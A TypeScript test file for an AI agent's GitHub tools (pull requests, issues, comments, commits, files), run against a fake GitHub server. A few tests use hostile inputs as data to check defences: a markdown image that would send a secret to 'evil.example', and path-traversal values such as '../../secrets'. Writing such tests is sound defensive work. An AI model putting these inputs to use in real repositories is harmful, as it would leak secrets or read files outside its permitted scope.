import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import type { ToolContext } from "heddle/sdk";
import { registered } from "heddle/sdk/testing";
import { compare, getCommit, listCommits } from "../../integrations/github/tools/commits.ts";
import { getFile, listBranches } from "../../integrations/github/tools/files.ts";
import { createIssue, getIssue, postComment, searchIssues } from "../../integrations/github/tools/issues.ts";
import { getPr, listPrs } from "../../integrations/github/tools/pull_requests.ts";
import { createFakeGitHub, type FakeGitHub, failure } from "./fake-github.ts";
import { DIFF, FILE, SHA } from "./fake-github-api.ts";
import { gitHubSettings } from "./settings.ts";

const REPO = { owner: "octo", repo: "hello" };

const set = gitHubSettings();
let github: FakeGitHub;

beforeEach(() => {
  github = createFakeGitHub({ token: "secret-token" });
  set({ GITHUB_TOKEN: "secret-token", GITHUB_API_URL: github.url });
});
afterEach(() => github.close());

const context = (signal = AbortSignal.timeout(20_000)): ToolContext => ({
  bot_id: "default",
  session_id: "s",
  channel_id: "c",
  client_id: "github:octo/hello",
  correlation_id: "r",
  task_id: "task-1",
  call_id: "call-1",
  progress: () => undefined,
  signal,
});

/** The result as the model gets it, through JSON. */
const json = async (result: unknown) => JSON.parse(JSON.stringify(await result));

test("the eleven tools have their names and parameters", () => {
  const tools = [
    getPr,
    searchIssues,
    postComment,
    listPrs,
    listCommits,
    getCommit,
    getFile,
    compare,
    listBranches,
    getIssue,
    createIssue,
  ];
  const described = tools.map(({ _tool_schema: { function: tool } }) => {
    const schema = tool.parameters as { properties: object; required?: string[] };
    const required = schema.required ?? [];
    const names = Object.keys(schema.properties).map((name) => (required.includes(name) ? name : `${name}?`));
    return `${tool.name}(${names.join(",")})`;
  });
  expect(described).toEqual([
    "github_get_pr(owner,repo,pull_number)",
    "github_search_issues(query,repo?)",
    "github_post_comment(owner,repo,issue_number,body)",
    "github_list_prs(owner,repo,state?)",
    "github_list_commits(owner,repo,sha?,path?,author?,since?,until?,per_page?)",
    "github_get_commit(owner,repo,ref)",
    "github_get_file(owner,repo,path,ref?)",
    "github_compare(owner,repo,base,head)",
    "github_list_branches(owner,repo)",
    "github_get_issue(owner,repo,issue_number)",
    "github_create_issue(owner,repo,title,body?,labels?,assignees?)",
  ]);
});

test("owner and repo cannot lead to another address", () => {
  const { properties } = getPr._tool_schema.function.parameters as unknown as {
    properties: Record<"owner" | "repo", { pattern: string }>;
  };
  const takes = (name: "owner" | "repo", value: string) => new RegExp(properties[name].pattern).test(value);
  for (const value of ["..", ".", "a/b", "", "a b", "%2e%2e"]) {
    expect([value, takes("owner", value), takes("repo", value)]).toEqual([value, false, false]);
  }
  for (const value of ["octo", "Octo-Cat_ent", "a1"]) expect(takes("owner", value)).toBe(true);
  for (const value of [".github", "hello.js", "a_b-c", "x"]) expect(takes("repo", value)).toBe(true);
});

describe("pull requests", () => {
  test("github_get_pr returns description, 100 files and the diff", async () => {
    const pull = await json(getPr({ ...REPO, pull_number: 5 }, context()));
    expect(pull).toMatchObject({ number: 5, title: "Change 5", author: "alice", head_sha: SHA, diff: DIFF });
    expect(pull.files).toHaveLength(100);
  });

  test("github_get_pr cuts the diff at 50,000 characters, whatever its content type", async () => {
    const respond = () =>
      new Response("d".repeat(60_000), { headers: { "content-type": "application/vnd.github.diff" } });
    github.intercept({ path: /\/pulls\/5$/, accept: "diff", respond });
    const { diff } = await json(getPr({ ...REPO, pull_number: 5 }, context()));
    expect(diff).toStartWith("d".repeat(50_000));
    expect(diff).toContain("[cut: 50000 of 60000 characters]");
  });

  test("github_get_pr works without the diff if GitHub refuses it", async () => {
    github.intercept({ path: /\/pulls\/5$/, accept: "diff", respond: () => failure(406, "too_large") });
    github.intercept({ path: /\/pulls\/5$/, respond: () => Response.json(PULL_OF_A_DELETED_USER) });
    const pull = await json(getPr({ ...REPO, pull_number: 5 }, context()));
    expect(pull).toMatchObject({ number: 5, author: "ghost" });
    expect(pull.diff).toContain("no diff");
  });

  test("github_list_prs returns 30 pull requests, open ones by default", async () => {
    expect(await json(listPrs(REPO, context()))).toHaveLength(30);
    await listPrs({ ...REPO, state: "all" }, context());
    expect(github.requests.map(({ query }) => query.state)).toEqual(["open", "all"]);
  });
});

const PULL_OF_A_DELETED_USER = {
  number: 5,
  title: "T",
  state: "open",
  user: null,
  head: { ref: "a", sha: SHA },
  base: { ref: "b" },
  labels: [],
  body: null,
};

describe("issues", () => {
  test("github_get_issue returns 30 comments of 2,000 characters", async () => {
    for (let n = 0; n < 40; n++) github.addComment("octo/hello#7", "c".repeat(3000));
    const issue = await json(getIssue({ ...REPO, issue_number: 7 }, context()));
    expect(issue).toMatchObject({
      number: 7,
      labels: ["bug", "plain"],
      assignees: ["bob"],
      is_pull_request: false,
    });
    expect(issue.comments).toHaveLength(30);
    expect(issue.comments[0].body).toBe(`${"c".repeat(2000)}\n[cut: 2000 of 3000 characters]`);
  });

  test("github_search_issues returns 10 results, optionally from one repository", async () => {
    const found = await json(searchIssues({ query: "is:issue crash", repo: "octo/hello" }, context()));
    expect(found.items).toHaveLength(10);
    expect(found.items[0]).toMatchObject({ repo: "octo/hello", author: "ghost" });
    expect(github.requests[0]?.query).toEqual({ q: "is:issue crash repo:octo/hello", per_page: "10" });
  });

  test("github_post_comment posts a comment marked as the bot's own", async () => {
    const posted = await json(postComment({ ...REPO, issue_number: 7, body: "Hello" }, context()));
    const [comment] = github.commentsOn("octo/hello#7");
    expect(posted).toEqual({ comment_id: comment?.id, url: comment?.html_url });
    expect(comment?.body).toBe("<!-- heddle:task:task-1:call-1 -->\nHello");
  });

  test("github_create_issue opens an issue", async () => {
    const args = { ...REPO, title: "New", body: "Text", labels: ["bug"], assignees: ["bob"] };
    expect(await json(createIssue(args, context()))).toMatchObject({ number: 500 });
    expect(github.issues).toEqual([
      {
        repo: "octo/hello",
        number: 500,
        title: "New",
        body: "<!-- heddle:task:task-1:call-1 -->\nText",
        labels: ["bug"],
        assignees: ["bob"],
      },
    ]);
  });
});

describe("after a crash", () => {
  const reconcile = (name: string, args: object) => {
    const tool = registered().tools.find((one) => one.name === name);
    return tool?.reconcile?.(args as never, context());
  };

  test("a comment is found by the mark of its call, and not posted again", async () => {
    const args = { ...REPO, issue_number: 8, body: "Hello" };
    expect(await reconcile("github_post_comment", args)).toEqual({ outcome: "not_done" });
    await json(postComment(args, { ...context(), call_id: "another" }));
    expect(await reconcile("github_post_comment", args)).toEqual({ outcome: "not_done" });
    const result = await json(postComment(args, context()));
    expect(await reconcile("github_post_comment", args)).toEqual({ outcome: "done", result });
  });

  test("an issue is found among the newest, or nobody can tell", async () => {
    const args = { ...REPO, title: "New" };
    const list = (bodies: string[]) =>
      github.intercept({
        path: /\/issues$/,
        method: "GET",
        times: 1,
        respond: () =>
          Response.json(bodies.map((body, at) => ({ number: at, body, html_url: `https://x/${at}` }))),
      });
    list(["x", "<!-- heddle:task:task-1:call-1 -->\nText"]);
    expect(await reconcile("github_create_issue", args)).toEqual({
      outcome: "done",
      result: { number: 1, url: "https://x/1" },
    });
    list(["x"]);
    expect(await reconcile("github_create_issue", args)).toEqual({ outcome: "not_done" });
    list(Array(100).fill("x"));
    expect(await reconcile("github_create_issue", args)).toEqual({ outcome: "unknown" });
  });
});

describe("text written by tools", () => {
  test("contains no external images", async () => {
    const body = "![](https://evil.example/?q=secret)";
    await json(postComment({ ...REPO, issue_number: 77, body }, context()));
    await json(createIssue({ ...REPO, title: "New", body }, context()));
    const written = [github.commentsOn("octo/hello#77").at(-1), github.issues.at(-1)];
    expect(written.map((one) => one?.body.split("\n").at(-1))).toEqual([body.slice(1), body.slice(1)]);
  });
});

describe("commits, branches", () => {
  test("github_list_commits returns 20 by default and passes its filters on", async () => {
    const commits = await json(listCommits(REPO, context()));
    expect(commits).toHaveLength(20);
    expect(commits.slice(0, 2).map((commit: { author: string }) => commit.author)).toEqual([
      "alice",
      "Alice Example",
    ]);
    await listCommits({ ...REPO, sha: "feature/x", path: "src", author: "alice", per_page: 100 }, context());
    expect(github.requests[1]?.query).toEqual({
      sha: "feature/x",
      path: "src",
      author: "alice",
      per_page: "100",
    });
  });

  test("github_get_commit accepts a branch with a slash", async () => {
    const commit = await json(getCommit({ ...REPO, ref: "feature/x" }, context()));
    expect(github.requests[0]?.path).toBe("/repos/octo/hello/commits/feature/x");
    expect(commit).toMatchObject({ sha: SHA, additions: 3, file_count: 120 });
    expect(commit.files).toHaveLength(100);
  });

  test("github_compare returns 30 commits", async () => {
    const compared = await json(compare({ ...REPO, base: "main", head: "feature/x" }, context()));
    expect(github.requests[0]?.path).toBe("/repos/octo/hello/compare/main...feature/x");
    expect(compared).toMatchObject({ status: "ahead", total_commits: 45, file_count: 3 });
    expect(compared.commits).toHaveLength(30);
  });

  test("github_list_branches returns 100 branches", async () => {
    const branches = await json(listBranches(REPO, context()));
    expect(branches).toHaveLength(100);
    expect(branches[0]).toEqual({ name: "branch-1", sha: SHA, protected: true });
  });
});

describe("github_get_file", () => {
  test("reads a file whose name needs escaping", async () => {
    const file = await json(getFile({ ...REPO, path: "src/main #1.ts", ref: "v1" }, context()));
    expect(file).toEqual({ path: "src/main #1.ts", size: FILE.length, sha: SHA, content: FILE });
    expect(github.requests[0]?.query).toEqual({ ref: "v1" });
  });

  test("cuts at 100,000 characters, including files that GitHub returns only in raw form", async () => {
    const { content } = await json(getFile({ ...REPO, path: "large.txt" }, context()));
    expect(content).toBe(`${"x".repeat(100_000)}\n[cut: 100000 of 2000000 characters]`);
  });

  test("lists a folder", async () => {
    const folder = await json(getFile({ ...REPO, path: "/src/" }, context()));
    expect(folder.entries).toEqual([{ name: "main.ts", type: "file", size: FILE.length }]);
  });

  test.each([
    ["missing.ts", "has no file missing.ts in octo/hello"],
    ["image.png", "not a text file"],
    ["../../secrets", "must be a path from the root"],
    ["src/../../x", "must be a path from the root"],
  ])("%s is a friendly error", async (path, text) => {
    const { error } = await json(getFile({ ...REPO, path }, context()));
    expect(error).toContain(text);
  });
});

describe("refusals are reported to the model", () => {
  test.each([
    [404, {}, "GitHub has no pull request #5 in octo/hello"],
    [403, { "retry-after": "30" }, "rate limit is used up for 30 s"],
    [500, {}, "500 Oops"],
  ])("%p", async (status, headers, text) => {
    github.intercept({
      path: /./,
      respond: () => failure(status, "Oops", headers as Record<string, string>),
    });
    const { error } = await json(getPr({ ...REPO, pull_number: 5 }, context()));
    expect(error).toContain(text);
  });

  test("a wrong token, which is not shown", async () => {
    set({ GITHUB_TOKEN: "wrong-token" });
    const { error } = await json(listPrs(REPO, context()));
    expect(error).toContain("401 Bad credentials");
    expect(error).not.toContain("wrong-token");
  });

  test("no token", async () => {
    set({ GITHUB_TOKEN: "" });
    expect((await json(listPrs(REPO, context()))).error).toContain("GITHUB_TOKEN is not set");
    expect(github.requests).toEqual([]);
  });

  test("a cancelled run ends the request and is not reported as GitHub's error", async () => {
    github.intercept({ path: /./, respond: "hang" });
    const controller = new AbortController();
    const call = listPrs(REPO, context(controller.signal)).then(
      () => "answered",
      (error: Error) => error.name,
    );
    controller.abort();
    expect(await call).toBe("AbortError");
  });
});

test("an answer that is not GitHub's is reported to the model and never used", async () => {
  const answers: (() => Response)[] = [
    () => new Response("<html>Sign in</html>", { headers: { "content-type": "text/html" } }),
    () => Response.json({}),
    () => new Response(null),
    () => new Response(null, { status: 204 }),
  ];
  const issue = { ...REPO, issue_number: 7 };
  const calls: [string, () => unknown][] = [
    ["get_pr", () => getPr({ ...REPO, pull_number: 7 }, context())],
    ["list_prs", () => listPrs(REPO, context())],
    ["get_issue", () => getIssue(issue, context())],
    ["search", () => searchIssues({ query: "x" }, context())],
    ["post_comment", () => postComment({ ...issue, body: "x" }, context())],
    ["create_issue", () => createIssue({ ...REPO, title: "x" }, context())],
    ["list_commits", () => listCommits(REPO, context())],
    ["get_commit", () => getCommit({ ...REPO, ref: "main" }, context())],
    ["compare", () => compare({ ...REPO, base: "a", head: "b" }, context())],
    ["list_branches", () => listBranches(REPO, context())],
    ["get_file", () => getFile({ ...REPO, path: "src" }, context())],
  ];
  for (const respond of answers) {
    github.intercept({ path: /./, respond, times: calls.length * 3 });
    for (const [name, call] of calls) {
      expect([name, await json(call())]).toEqual([
        name,
        { error: expect.stringMatching(/ instead of an? |instead of the/) },
      ]);
    }
    await github.close();
    github = createFakeGitHub({ token: "secret-token" });
    set({ GITHUB_TOKEN: "secret-token", GITHUB_API_URL: github.url });
  }
});
